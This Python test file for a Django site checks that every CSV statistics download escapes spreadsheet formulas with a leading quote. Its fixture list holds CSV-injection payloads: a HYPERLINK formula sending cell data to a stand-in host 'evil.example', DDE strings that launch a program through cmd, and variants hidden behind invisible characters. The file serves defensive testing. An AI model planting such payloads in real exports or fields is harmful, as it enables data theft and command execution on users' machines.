"""Every CSV the site hands out opens in a spreadsheet without running anything.

Names of organisations and counties reach the statistics downloads as they were typed; one
beginning with `=`, `+`, `-`, `@`, a tab or a carriage return would be a formula (OWASP "CSV
Injection"), and so could one whose formula hides behind characters nobody sees. Each is written
with a leading single quote, by the one helper every CSV writer uses.
"""

import csv
import io
import re

import pytest
from django.core.cache import cache

from cases import spreadsheet
from cases.statistics.caching import diffusion
from cases.statistics.tables import build_tables
from tests.factories import CaseFactory, CountyFactory, MunicipalityFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    # Behind a control character (which the xlsx writer must drop), a space, a zero-width one.
    '\x01=HYPERLINK("http://evil.example/","Oslo")',
    " =1+1",
    "\u200b@SUM(1+1)",
]
# A cell a spreadsheet program could run: a formula character first, or first after characters
# it may drop or nobody sees (whitespace, control characters, zero-width ones, a byte order mark).
RUNS = re.compile(r"[\s\x00-\x1f\x7f\u200b-\u200d\u2060\ufeff]*[=+\-@]")


def could_run(cell: str) -> bool:
    return bool(RUNS.match(cell))


@pytest.fixture(autouse=True)
def _empty_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def hostile_world(db):
    """A county and owners whose names are formulas, each owner with a case others reused."""
    county = CountyFactory(name="=cmd|' /C calc'!A0")
    for name in HOSTILE_NAMES:
        owner = MunicipalityFactory(parent=county, name=name)
        CaseFactory(
            organisation=owner,
            published=True,
            sectors=["health-care"],
            adopters=[MunicipalityFactory(parent=county) for _ in range(2)],
        )


def _cells(response) -> list[str]:
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_statistics_download_escapes_formulas(client, hostile_world):
    slugs = sorted(build_tables(diffusion(filters={})))
    assert "top-spreaders" in slugs
    assert "breakdown-county" in slugs
    seen: set[str] = set()
    for slug in slugs:
        response = client.get(f"/statistikk/{slug}.csv")
        assert response.status_code == 200, slug
        cells = _cells(response)
        seen.update(cells)
        dangerous = [cell for cell in cells if could_run(cell) and not _is_number(cell)]
        assert dangerous == [], slug
    # The names are still there, readable, behind the quote.
    for name in HOSTILE_NAMES:
        assert "'" + name in seen
    assert "'=cmd|' /C calc'!A0" in seen


def test_the_helper_escapes_text_and_leaves_numbers_and_plain_text():
    assert spreadsheet.safe_cell("=1+1") == "'=1+1"
    assert spreadsheet.safe_cell("+47 22 00 00 00") == "'+47 22 00 00 00"
    assert spreadsheet.safe_cell("-") == "'-"
    assert spreadsheet.safe_cell("@user") == "'@user"
    assert spreadsheet.safe_cell("\tx") == "'\tx"
    assert spreadsheet.safe_cell("\rx") == "'\rx"
    assert spreadsheet.safe_cell("\x01=1+1") == "'\x01=1+1"
    assert spreadsheet.safe_cell("  -x") == "'  -x"
    assert spreadsheet.safe_cell("\u00a0+1") == "'\u00a0+1"
    assert spreadsheet.safe_cell("\ufeff\u200b@x") == "'\ufeff\u200b@x"
    assert spreadsheet.safe_cell(" Oslo - Viken") == " Oslo - Viken"
    assert spreadsheet.safe_cell("Oslo kommune") == "Oslo kommune"
    assert spreadsheet.safe_cell("a=b") == "a=b"
    assert spreadsheet.safe_cell("") == ""
    assert spreadsheet.safe_cell(-1.5) == -1.5
    assert spreadsheet.safe_cell(-3) == -3
    assert spreadsheet.safe_cell(None) is None


def test_the_writer_quotes_what_csv_needs_and_escapes_every_cell():
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["=1,2", 'say "hi"', 7, "-x"])
    assert out.getvalue() == '"\'=1,2","say ""hi""",7,\'-x\r\n'
